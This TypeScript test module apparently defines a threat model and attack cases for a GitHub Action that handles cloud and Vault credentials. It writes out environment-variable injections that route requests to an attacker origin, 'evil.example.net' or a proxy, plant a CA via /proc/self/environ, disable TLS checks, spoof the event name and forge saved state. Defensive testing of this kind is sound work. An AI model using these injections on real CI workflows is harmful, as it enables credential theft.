/**
 * Attacker 1: an injector of environment variables, without code execution.
 *
 * Foothold: text of his (a title, a branch name, a file of an artifact) is appended to GITHUB_ENV
 * by a careless step of the workflow. Can: set any variable of all later steps but those that the
 * runner sets itself; own a server, an authority and a proxy on the internet. Cannot: run code,
 * read anything of the job (no path, no token, no provider, no name of an input that is in use), or
 * write a file.
 */
import type { Plot } from './play.ts'
import type { Premises } from './premises.ts'
import { INJECTION } from './words.ts'

/** All that this attacker has. */
export interface EnvInjector {
  /** What he owns outside the job. */
  readonly premises: Premises
  /** Appends `NAME=VALUE` to GITHUB_ENV; the value may have several lines. */
  write(name: string, value: string): void
}

interface Attack extends Omit<Plot, 'before'> {
  readonly act: (attacker: EnvInjector) => void
}

const attacks: readonly Attack[] = [
  {
    title: 'gives a blank input another value by its lower-case name',
    only: ['aws', 'octo-sts', 'oauth'],
    act: ({ premises, write }) => write('input_address', premises.origin),
  },
  {
    title: 'gives a blank input another value by its name in mixed case',
    only: ['gcp', 'vault'],
    act({ write }) {
      write('Input_Universe', 'example.net')
      write('Input_Audience', 'https://evil.example.net')
    },
  },
  {
    title: 'names another place to revoke the token at, in mixed case',
    only: ['oauth'],
    act({ premises, write }) {
      write('Input_Revoke', 'rfc7009')
      write('Input_Revoke-Address', `${premises.origin}/revoke`)
    },
  },
  {
    title: 'brings an authority in an input and a proxy',
    act({ premises, write }) {
      for (const name of ['input_ca', 'Input_CA-Certificate']) write(name, premises.authority)
      write('HTTPS_PROXY', premises.patientProxy)
      write('https_proxy', premises.patientProxy)
    },
  },
  {
    title: 'brings an authority in a variable, read through /proc, and a proxy',
    act({ premises, write }) {
      write('NOTE', `\n${premises.authority}`)
      write('NODE_EXTRA_CA_CERTS', '/proc/self/environ')
      write('HTTPS_PROXY', premises.proxy)
      write('https_proxy', premises.proxy)
    },
  },
  {
    title: 'brings an authority of the system in a variable, read through /proc, and a proxy',
    act({ premises, write }) {
      write('NOTE', `\n${premises.authority}`)
      write('NODE_USE_SYSTEM_CA', '1')
      write('SSL_CERT_FILE', '/proc/self/environ')
      write('HTTPS_PROXY', premises.proxy)
    },
  },
  {
    title: 'makes the run of an outsider acceptable',
    claims: { event_name: 'issue_comment' },
    facts: { event_name: 'issue_comment' },
    mustRefuse: true,
    act({ write }) {
      write('input_allow-events', 'issue_comment')
      write('GITHUB_EVENT_NAME', 'push')
    },
  },
  {
    title: 'forges the journal of a main that is made to fail',
    mustRefuse: true,
    act({ premises, write }) {
      write('NODE_TLS_REJECT_UNAUTHORIZED', '0')
      forgeJournal({ premises, write })
    },
  },
  {
    title: 'switches on every debug message by a long pattern',
    limit: 15,
    // With a letter behind the asterisks Node itself hangs before our first line: SECURITY names
    // it.
    act: ({ write }) => write('NODE_DEBUG', '*'.repeat(60)),
  },
  {
    title: 'turns on everything that loosens or prints',
    act({ premises, write }) {
      write('AWS_ENDPOINT_URL_STS', premises.origin)
      write('VAULT_ADDR', premises.origin)
      write('ACTIONS_ID_TOKEN_REQUEST_URL', premises.origin)
      write('GITHUB_SERVER_URL', premises.origin)
      write('NODE_DEBUG', 'http,tls,net,stream')
      write('NO_PROXY', '*')
      write('TITLE', INJECTION)
    },
  },
]

/**
 * A journal as main writes it, with a receipt that leads to the attacker's server; old and new
 * keys.
 */
function forgeJournal({ premises, write }: EnvInjector): void {
  const nonce = '0123456789abcdef0123456789abcdef'
  const header = {
    v: 1,
    nonce,
    budget: 5000,
    summary: true,
    proxy: { https: premises.proxy },
  }
  const lease = { lease: 'app', from: 'vault', host: 'vault.lab.test' }
  const data = { address: `${premises.origin}/`, token: 'hvs.forged', kind: 'service' }
  const policy = { onRevokeFailure: 'warn' }
  const ca = premises.authority
  const receipt = { ...lease, intent: 0, id: 'forged', expiresAt: null, ca, ...policy }
  for (const key of ['opening', 'header']) write(`STATE_${key}`, JSON.stringify(header))
  write('STATE_entry_0', JSON.stringify({ nonce, kind: 'intent', ...lease, until: null }))
  write(
    'STATE_entry_1',
    JSON.stringify({ nonce, kind: 'receipt', ...receipt, way: data, revocation: data }),
  )
  write('STATE_closed', '2')
}

/** The attacks of the injector as plots. */
export const envInjections: readonly Plot[] = attacks.map(({ act, ...plot }) => ({
  ...plot,
  before: ({ attacker: premises, job }) =>
    job.run(({ write }) =>
      act({ premises, write: (name, value) => write('env', `${name}<<EOT\n${value}\nEOT\n`) }),
    ),
}))
